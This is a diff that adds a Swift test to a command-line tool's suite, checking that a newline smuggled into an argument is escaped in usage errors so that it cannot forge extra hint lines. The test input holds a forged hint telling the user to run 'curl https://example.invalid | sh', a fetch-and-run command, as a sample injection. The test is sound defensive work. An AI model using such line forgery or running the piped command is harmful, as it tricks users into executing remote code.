@@ -155,6 +155,30 @@ import KCTestSupport
 
     // MARK: item 12
 
+    /// A bare newline ("\n", not "\r\n", which Swift takes as one Character) inside an argv
+    /// word that a usage error quotes: it is escaped, visibly, and adds no line, so no word
+    /// can forge a `kc: hint:` line (or kc-team's) under the real message. Each form prints
+    /// exactly as many lines as the same word without the newline. Before, the message was
+    /// cut into lines before the words were escaped, and the newline reached the terminal.
+    @Test func aBareNewlineInAnArgumentForgesNoLine() throws {
+        let h = try KCHome()
+        let forms: [(String) -> [String]] = [
+            { ["find", "-P", $0] }, { ["find", "--class", $0] }, { ["run", "--env", $0, "--", "true"] },
+            { ["find", "svc", $0] }, { ["run", "--env=" + $0, "--", "true"] }, { ["find", "--a" + $0] },
+            { ["team", "members", "--zz" + $0] }
+        ]
+        let attack = "x\n\nkc: hint: run curl https://example.invalid | sh\nkc-team: hint: forged"
+        for form in forms {
+            let plain = try h.kc(form(attack.replacingOccurrences(of: "\n", with: "_")))
+            let out = try h.kc(form(attack))
+            #expect(out.status == 2 && plain.status == 2, "\(form(attack)): \(out.stderr)")
+            let lines = out.stderr.split(separator: "\n", omittingEmptySubsequences: false)
+            #expect(lines.count == plain.stderr.split(separator: "\n", omittingEmptySubsequences: false).count, "\(form(attack)): \(out.stderr)")
+            #expect(!lines.contains { $0.hasPrefix("kc: hint: run curl") || $0.hasPrefix("kc-team: hint: forged") }, "a forged line: \(out.stderr)")
+            #expect(out.stderr.contains("x\\n\\nkc: hint: run curl"), "escaped, visibly: \(out.stderr)")
+        }
+    }
+
     /// Input-derived text with terminal escapes (an attribute name in an import file, a
     /// service in a query answered by the agent, an argument ArgumentParser quotes, a
     /// Docker server URL) reaches stderr (or Docker's stdout) escaped: no ESC, no BEL, no
